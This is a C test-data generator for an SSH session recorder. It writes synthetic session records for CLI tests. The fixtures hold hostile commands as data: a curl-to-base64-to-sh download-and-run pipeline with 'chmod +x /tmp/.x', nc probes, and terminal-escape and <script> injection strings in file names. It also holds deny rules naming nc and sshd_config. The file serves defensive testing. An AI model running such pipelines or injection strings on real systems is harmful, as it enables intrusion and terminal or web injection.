/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * gen_db: write a synthetic sshrec database through sshrecd's own record
 * writer and sinks (recorder/record_json.c, sink_sqlite.c, sink_jsonl.c),
 * for the CLI's unit/e2e tests (deterministic: same arguments, same bytes of
 * output from the CLI) and its benchmark. With -j the JSON-lines sink writes
 * the same records, which `sshrec export --format jsonl` must give back
 * byte for byte.
 *
 * usage: gen_db -o DB [-j JSONL] [-n SESSIONS] [-e EVENTS] [-b BIGTREE]
 *               [--hostile] [--seed N]
 *   -n  sessions (default 3); -e  total events across them (default 300);
 *   -b  add one more session with this many processes (wide, 3 levels deep);
 *   --hostile  session 0 also runs programs with escape sequences, <script>,
 *              quotes and newlines in argv and paths, and the session policy's
 *              denials (a killed exec, an audited connect, a refused write).
 * Sessions: logins alice, bob, carol, root, deploy, …; realistic trees (login
 * shell, pipelines like curl … | base64 -d | sh, failed execs, killed jobs),
 * file opens and TCP connects.
 */
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "jwrite.h"
#include "timeutil.h"
#include "bpf/policy.h"
#include "recorder/config.h"
#include "recorder/record_json.h"
#include "recorder/sinks/sink.h"

#define BASE_US 1767600000000000LL /* 2026-01-05T08:00:00Z */
/* Records per sink flush (one SQLite transaction), as a busy daemon's batch. */
#define BATCH 8192

static uint64_t rng = 0x9e3779b97f4a7c15ULL;

static uint64_t rnd(void)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return rng;
}

static unsigned pick(unsigned n)
{
	return (unsigned)(rnd() % n);
}

struct sess {
	struct sr_session_info info;
	char login[32], remote[32], user[96], cgroup_path[64], tty[16];
	int64_t t;        /* the next record's time */
	uint64_t next_ei; /* and its ei */
};

struct proc {
	struct sr_process_info pi;
	const char *comm; /* the program's comm: the basename of its path */
	char argv_json[2048];
};

/* The sinks (JSON lines first, SQLite last, as sshrecd flushes them). */
static struct sr_sink sinks[2];
static size_t nsinks;
static uint64_t queued;
static struct sr_jw jw;
static int64_t next_proc_id = 1;
static int64_t step_us = 1000;
static const char *server_id = "4f1c2a9e-8b7d-4e21-9a55-0c3b6d2e7f10";
static const char *server_host = "bastion-1";

static void flush(void)
{
	size_t i;

	for (i = 0; i < nsinks; i++)
		if (sinks[i].ops->flush(&sinks[i])) {
			fprintf(stderr, "gen_db: sink %s: %s\n", sinks[i].ops->name,
			        sinks[i].health.last_error);
			exit(1);
		}
	queued = 0;
}

/* A record of @p s at its current time, with a random UUIDv4. */
static void begin(struct sr_record *r, struct sess *s, enum sr_rec_kind kind, int pid, int ppid,
                  const char *prog)
{
	uint64_t a = rnd(), b = rnd();

	memset(r, 0, sizeof(*r));
	r->kind = kind;
	r->sess = &s->info;
	r->ei = s->next_ei;
	r->time_us = s->t;
	memcpy(r->uid, &a, 8);
	memcpy(r->uid + 8, &b, 8);
	r->uid[6] = (r->uid[6] & 0x0f) | 0x40;
	r->uid[8] = (r->uid[8] & 0x3f) | 0x80;
	r->cgroup_id = s->info.cgroup_id;
	r->audit_session_id = s->info.audit_session_id;
	r->pid = pid;
	r->ppid = ppid;
	r->program = prog;
}

/* Hand @p r to the sinks, count it, advance the session's clock. */
static void emit(struct sess *s, struct sr_record *r)
{
	size_t i;

	s->next_ei++;
	if (sr_record_json(&jw, r)) {
		fprintf(stderr, "gen_db: out of memory\n");
		exit(1);
	}
	r->json = jw.b;
	r->json_len = jw.len;
	for (i = 0; i < nsinks; i++)
		if (sinks[i].ops->write(&sinks[i], r)) {
			fprintf(stderr, "gen_db: sink %s: write failed\n", sinks[i].ops->name);
			exit(1);
		}
	s->info.counts[r->kind]++;
	s->t += step_us / 2 + (int64_t)pick((unsigned)step_us + 1);
	if (++queued >= BATCH)
		flush();
}

static const char *base_name(const char *p)
{
	const char *s = strrchr(p, '/');

	return s ? s + 1 : p;
}

/* argv given as NULL-terminated list */
static void exec_proc(struct sess *s, struct proc *p, const struct proc *parent, int pid,
                      const char *path, const char *cwd, int rc, const char *const *argv)
{
	struct sr_record r;
	size_t i;

	memset(p, 0, sizeof(*p));
	sr_jw_reset(&jw);
	sr_jw_arr(&jw, NULL);
	for (i = 0; argv[i]; i++)
		sr_jw_str(&jw, NULL, argv[i]);
	sr_jw_end(&jw);
	if (sr_jw_error(&jw) || jw.len >= sizeof(p->argv_json)) {
		fprintf(stderr, "gen_db: argv too long\n");
		exit(1);
	}
	memcpy(p->argv_json, jw.b, jw.len);
	p->comm = base_name(path);
	p->pi.id = next_proc_id++;
	p->pi.parent_id = parent ? parent->pi.id : 0;
	p->pi.pid = pid;
	p->pi.ppid = parent ? parent->pi.pid : 900;
	p->pi.program = p->comm;
	p->pi.path = path;
	p->pi.argv_json = p->argv_json;
	p->pi.cwd = cwd;
	p->pi.uid = p->pi.gid = p->pi.euid = p->pi.egid = 1000;
	p->pi.return_code = rc;
	p->pi.start_us = s->t;
	p->pi.exec_ei = s->next_ei;
	begin(&r, s, SR_REC_COMMAND, pid, p->pi.ppid, p->comm);
	r.proc = &p->pi;
	r.process_id = p->pi.id;
	r.path = path;
	r.cwd = cwd;
	r.has_return_code = true;
	r.return_code = rc;
	emit(s, &r);
}

static void disk(struct sess *s, const struct proc *p, const char *path, int flags, int rc)
{
	struct sr_record r;

	begin(&r, s, SR_REC_DISK, p->pi.pid, p->pi.ppid, p->comm);
	r.process_id = p->pi.id;
	r.path = path;
	r.flags = (uint64_t)flags;
	r.mode = flags & 0100 ? 0644 : 0;
	r.has_return_code = true;
	r.return_code = rc;
	emit(s, &r);
}

static void net(struct sess *s, const struct proc *p, const char *dst, int port, int result)
{
	struct sr_record r;

	begin(&r, s, SR_REC_NETWORK, p->pi.pid, p->pi.ppid, p->comm);
	r.process_id = p->pi.id;
	r.src_addr = "10.0.0.4";
	r.src_port = 40000 + (int)pick(20000);
	r.dst_addr = dst;
	r.dst_port = port;
	r.result = result;
	emit(s, &r);
}

/* A session.denied record of @p p: a path (exec, write) or a destination (connect). */
static void denied(struct sess *s, const struct proc *p, enum sr_policy_action action,
                   const char *path, const char *dst, int port, const char *rule,
                   enum sr_policy_mode mode, enum sr_policy_mech mech)
{
	struct sr_record r;

	begin(&r, s, SR_REC_DENIED, p->pi.pid, p->pi.ppid, p->comm);
	r.process_id = p->pi.id;
	r.denied_action = (uint8_t)action;
	r.denied_mode = (uint8_t)mode;
	r.denied_mechanism = (uint8_t)mech;
	r.path = path;
	r.dst_addr = dst;
	r.dst_port = port;
	if (action == SR_POLICY_WRITE)
		r.flags = 01001; /* O_WRONLY|O_TRUNC */
	r.rule = rule;
	emit(s, &r);
}

static void exit_proc(struct sess *s, struct proc *p, int code, int sig)
{
	struct sr_record r;

	begin(&r, s, SR_REC_PROCESS_EXIT, p->pi.pid, p->pi.ppid, p->comm);
	p->pi.end_us = s->t;
	p->pi.has_exit = true;
	p->pi.exit_code = code;
	p->pi.signal = sig;
	p->pi.duration_ms = (s->t - p->pi.start_us) / 1000;
	r.proc = &p->pi;
	r.process_id = p->pi.id;
	r.exit_code = code;
	r.signal = sig;
	r.duration_ms = p->pi.duration_ms;
	emit(s, &r);
}

static void session_start(struct sess *s, int i)
{
	static const char *const logins[] = {"alice",  "bob",  "carol", "root",
	                                     "deploy", "dave", "erin",  "frank"};
	struct sr_session_info *in = &s->info;
	struct sr_record r;
	uint64_t key;

	key = ((uint64_t)(in->start_us / 1000) << 15) | (uint64_t)(i & 0x7fff);
	in->key = (int64_t)(key & 0x7fffffffffffffffULL);
	snprintf(in->sid, sizeof(in->sid), "%08" PRIx64 "-%04" PRIx64 "-7%03x-%04x-%012" PRIx64,
	         (uint64_t)(in->start_us / 1000) >> 16, (uint64_t)(in->start_us / 1000) & 0xffff,
	         (unsigned)(i & 0xfff), 0x8000u | (unsigned)((i >> 12) & 0x3fff),
	         (uint64_t)(rnd() & 0xffffffffffffULL));
	snprintf(s->login, sizeof(s->login), "%s", logins[i % 8]);
	snprintf(s->remote, sizeof(s->remote), "192.0.2.%d", 10 + i % 200);
	snprintf(s->user, sizeof(s->user), "SHA256:%s%.30s", s->login,
	         "Zk3bQ8mWl2vT0yHq9xR4uN7cE1pA6sD");
	snprintf(s->cgroup_path, sizeof(s->cgroup_path), "/sshrec/%s", in->sid);
	snprintf(s->tty, sizeof(s->tty), "/dev/pts/%d", i % 8);
	in->server_id = server_id;
	in->server_hostname = server_host;
	in->login = s->login;
	in->user = s->user;
	in->service = "sshd";
	in->tty = s->tty;
	in->rhost = s->remote;
	in->remote_addr = s->remote;
	in->remote_port = 50000 + i % 10000;
	in->local_addr = "10.0.0.4";
	in->local_port = 22;
	in->auth_method = "publickey";
	in->key_type = "ssh-ed25519";
	in->key_fingerprint = s->user;
	in->leader_pid = 800 + i % 30000;
	in->cgroup_id = (uint64_t)(10000 + in->key % 100000);
	in->cgroup_path = s->cgroup_path;
	in->audit_session_id = (uint32_t)(in->key % 100000);
	in->capture_backend = "tracepoint";
	in->state = "active";
	begin(&r, s, SR_REC_SESSION_START, in->leader_pid, 1, "sshd");
	r.tty = s->tty;
	emit(s, &r);
}

static void session_end(struct sess *s)
{
	struct sr_record r;

	s->info.end_us = s->t;
	s->info.state = "ended";
	begin(&r, s, SR_REC_SESSION_END, s->info.leader_pid, 1, "sshd");
	emit(s, &r);
}

#define ARGV(...) ((const char *const[]){__VA_ARGS__, NULL})

/* One unit of shell activity under @p sh (the @p nth of its session). */
static void activity(struct sess *s, const struct proc *sh, int *pid, int nth)
{
	/* every session starts with each kind once (simple, pipeline, failed
	 * exec, failed connect, killed job), then picks at random */
	static const unsigned first[] = {0, 5, 7, 8, 9};
	static const char *const simple[][4] = {
	    {"/usr/bin/ls", "ls", "-la", "/etc"},
	    {"/usr/bin/cat", "cat", "/etc/hostname", NULL},
	    {"/usr/bin/ps", "ps", "aux", NULL},
	    {"/usr/bin/df", "df", "-h", NULL},
	    {"/usr/bin/uname", "uname", "-a", NULL},
	    {"/usr/bin/git", "git", "status", NULL},
	    {"/usr/bin/grep", "grep", "-r", "password"},
	    {"/usr/bin/vim", "vim", "notes.txt", NULL},
	};
	static const char *const files[] = {
	    "/etc/passwd",         "/etc/hostname",   "/etc/ld.so.cache",
	    "/home/app/notes.txt", "/var/log/syslog", "/etc/ssl/certs/ca-certificates.crt"};
	struct proc a, b, c, d;
	unsigned r = nth < 5 ? first[nth] : pick(10), k, n;

	if (r < 5) {
		const char *const *cmd = simple[pick(8)];
		const char *argv[4] = {cmd[1], cmd[2], cmd[3], NULL};

		exec_proc(s, &a, sh, (*pid)++, cmd[0], "/home/app", 0, argv);
		disk(s, &a, "/etc/ld.so.cache", 02000000, 3);
		n = pick(3);
		for (k = 0; k < n; k++)
			disk(s, &a, files[pick(6)], 0, 3 + (int)k);
		exit_proc(s, &a, pick(6) == 0 ? 1 : 0, 0);
	} else if (r < 7) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/curl", "/home/app", 0,
		          ARGV("curl", "-s", "http://203.0.113.10/x.sh"));
		exec_proc(s, &b, sh, (*pid)++, "/usr/bin/base64", "/home/app", 0,
		          ARGV("base64", "-d"));
		exec_proc(s, &c, sh, (*pid)++, "/usr/bin/sh", "/home/app", 0, ARGV("sh"));
		net(s, &a, "203.0.113.10", 80, 1);
		exit_proc(s, &a, 0, 0);
		exit_proc(s, &b, 0, 0);
		exec_proc(s, &d, &c, (*pid)++, "/usr/bin/id", "/home/app", 0, ARGV("id"));
		exit_proc(s, &d, 0, 0);
		exec_proc(s, &d, &c, (*pid)++, "/usr/bin/chmod", "/home/app", 0,
		          ARGV("chmod", "+x", "/tmp/.x"));
		disk(s, &d, "/tmp/.x", 0101, 3);
		exit_proc(s, &d, 0, 0);
		exit_proc(s, &c, 0, 0);
	} else if (r == 7) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nosuchcmd", "/home/app", -2,
		          ARGV("nosuchcmd", "--flag"));
		exit_proc(s, &a, 127, 0);
	} else if (r == 8) {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nc", "/home/app", 0,
		          ARGV("nc", "-z", "198.51.100.20", "5432"));
		net(s, &a, "198.51.100.20", 5432, 2);
		exit_proc(s, &a, 1, 0);
	} else {
		exec_proc(s, &a, sh, (*pid)++, "/usr/bin/sleep", "/home/app", 0,
		          ARGV("sleep", "600"));
		exit_proc(s, &a, 0, 9);
	}
}

static void hostile(struct sess *s, const struct proc *sh, int *pid)
{
	struct proc a;

	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/printf", "/home/app", 0,
	          ARGV("printf", "\033]0;pwned\007"));
	exit_proc(s, &a, 0, 0);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/touch", "/home/app", 0,
	          ARGV("touch", "<script>document.title='pwned'</script>", "it's\nnew\\xff",
	               "not \xc3\x28 utf-8 \xff"));
	disk(s, &a, "/home/app/<script>document.title='pwned'</script>", 0101, 3);
	disk(s, &a, "/home/app/\033[2J\033[31mred", 0101, 4);
	exit_proc(s, &a, 0, 0);
}

/*
 * The session policy at work (after the hostile session's activity, on an
 * RNG stream of its own, so every other session comes out as it always did):
 * a killed exec, an audited connect, a refused write.
 */
static void policy_hits(struct sess *s, const struct proc *sh, int *pid)
{
	uint64_t saved = rng;
	struct proc a;

	rng ^= 0x5eedc0ffee15deadULL;
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/nc", "/home/app", 0, ARGV("nc", "10.0.0.9", "22"));
	denied(s, &a, SR_POLICY_EXEC, "/usr/bin/nc", NULL, 0,
	       "deny_exec.group.contractors = /usr/bin/nc", SR_POLICY_ENFORCE,
	       SR_POLICY_MECH_SIGNAL);
	exit_proc(s, &a, 0, 9);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/curl", "/home/app", 0,
	          ARGV("curl", "http://10.0.0.9/"));
	denied(s, &a, SR_POLICY_CONNECT, NULL, "10.0.0.9", 80, "deny_connect = 10.0.0.0/8",
	       SR_POLICY_AUDIT, SR_POLICY_MECH_SIGNAL);
	exit_proc(s, &a, 0, 0);
	exec_proc(s, &a, sh, (*pid)++, "/usr/bin/tee", "/home/app", 0,
	          ARGV("tee", "/etc/ssh/sshd_config"));
	denied(s, &a, SR_POLICY_WRITE, "/etc/ssh/sshd_config", NULL, 0, "deny_write = /etc/ssh/*",
	       SR_POLICY_ENFORCE, SR_POLICY_MECH_LSM);
	exit_proc(s, &a, 1, 0);
	rng = saved;
}

static void gen_session(int i, int64_t budget, int big, bool host)
{
	struct sess s = {0};
	struct proc sh, sudo;
	int pid = 2000 + (i % 1000) * 30;

	s.info.start_us = BASE_US + (int64_t)i * 60000000LL;
	s.t = s.info.start_us;
	session_start(&s, i);
	exec_proc(&s, &sh, NULL, pid++, "/usr/bin/bash", "/home/app", 0, ARGV("-bash"));
	disk(&s, &sh, "/home/app/.bashrc", 0, 3);
	if (host)
		hostile(&s, &sh, &pid);
	if (big > 0) {
		int made = 0, m;
		struct proc mk, cc;

		while (made < big) {
			exec_proc(&s, &mk, &sh, pid++, "/usr/bin/make", "/home/app/src", 0,
			          ARGV("make", "-j4"));
			made++;
			for (m = 0; m < 99 && made < big; m++, made++) {
				char obj[32];

				snprintf(obj, sizeof(obj), "unit%d.c", made);
				exec_proc(&s, &cc, &mk, pid++, "/usr/bin/cc", "/home/app/src", 0,
				          ARGV("cc", "-O2", "-c", obj));
				exit_proc(&s, &cc, 0, 0);
			}
			exit_proc(&s, &mk, 0, 0);
		}
	} else {
		int nth = 0;

		while ((int64_t)s.next_ei + 14 < budget)
			activity(&s, &sh, &pid, nth++);
		if (pick(4) == 0) {
			exec_proc(&s, &sudo, &sh, pid++, "/usr/bin/sudo", "/home/app", 0,
			          ARGV("sudo", "systemctl", "restart", "nginx"));
			exit_proc(&s, &sudo, 0, 0);
		}
		if (host)
			policy_hits(&s, &sh, &pid);
	}
	exit_proc(&s, &sh, 0, 0);
	session_end(&s);
}

static void open_sinks(const char *db, const char *jl)
{
	static struct sr_config cfg;
	const struct sr_sink_ops *ops[2];
	size_t n = 0, i;

	if (sr_config_defaults(&cfg)) {
		fprintf(stderr, "gen_db: out of memory\n");
		exit(1);
	}
	free(cfg.db_path);
	free(cfg.jsonl_path);
	cfg.db_path = strdup(db);
	cfg.jsonl_path = strdup(jl ? jl : "");
	cfg.jsonl_max_bytes = 1ull << 50; /* one file */
	cfg.backlog_max = BATCH;
	if (jl)
		ops[n++] = &sr_sink_jsonl_ops;
	ops[n++] = &sr_sink_sqlite_ops;
	for (i = 0; i < n; i++) {
		sinks[i].ops = ops[i];
		sinks[i].health.ok = true;
		if (ops[i]->init(&sinks[i], &cfg)) {
			fprintf(stderr, "gen_db: cannot open sink %s: %s\n", ops[i]->name,
			        sinks[i].health.last_error);
			exit(1);
		}
		nsinks++;
	}
}

int main(int argc, char **argv)
{
	static const struct option opts[] = {
	    {"hostile", no_argument, NULL, 'H'},
	    {"seed", required_argument, NULL, 'S'},
	    {NULL, 0, NULL, 0},
	};
	const char *out = NULL, *jl = NULL;
	long sessions = 3, big = 0;
	long long events = 300;
	bool host = false;
	size_t k;
	int c, i;

	while ((c = getopt_long(argc, argv, "o:j:n:e:b:", opts, NULL)) != -1) {
		switch (c) {
		case 'o':
			out = optarg;
			break;
		case 'j':
			jl = optarg;
			break;
		case 'n':
			sessions = strtol(optarg, NULL, 10);
			break;
		case 'e':
			events = strtoll(optarg, NULL, 10);
			break;
		case 'b':
			big = strtol(optarg, NULL, 10);
			break;
		case 'H':
			host = true;
			break;
		case 'S':
			rng = strtoull(optarg, NULL, 10) | 1;
			break;
		default:
			fprintf(stderr, "usage: gen_db -o DB [-j JSONL] [-n SESSIONS] [-e EVENTS] "
			                "[-b BIGTREE] [--hostile] [--seed N]\n");
			return 2;
		}
	}
	if (!out || sessions < 1 || events < sessions * 20) {
		fprintf(stderr, "gen_db: need -o DB, SESSIONS >= 1 and EVENTS >= 20 per session\n");
		return 2;
	}
	remove(out);
	if (jl)
		remove(jl);
	open_sinks(out, jl);
	step_us = 50000000LL / (events / sessions + 1);
	if (step_us < 2)
		step_us = 2;
	for (i = 0; i < sessions; i++) {
		gen_session(i, events / sessions, 0, host && i == 0);
		if (sessions >= 1000 && i % 1000 == 999)
			fprintf(stderr, "gen_db: %d sessions\n", i + 1);
	}
	if (big > 0) {
		step_us = 200;
		gen_session((int)sessions, 0, (int)big, false);
	}
	flush();
	for (k = 0; k < nsinks; k++)
		sinks[k].ops->close(&sinks[k]);
	sr_jw_free(&jw);
	return 0;
}
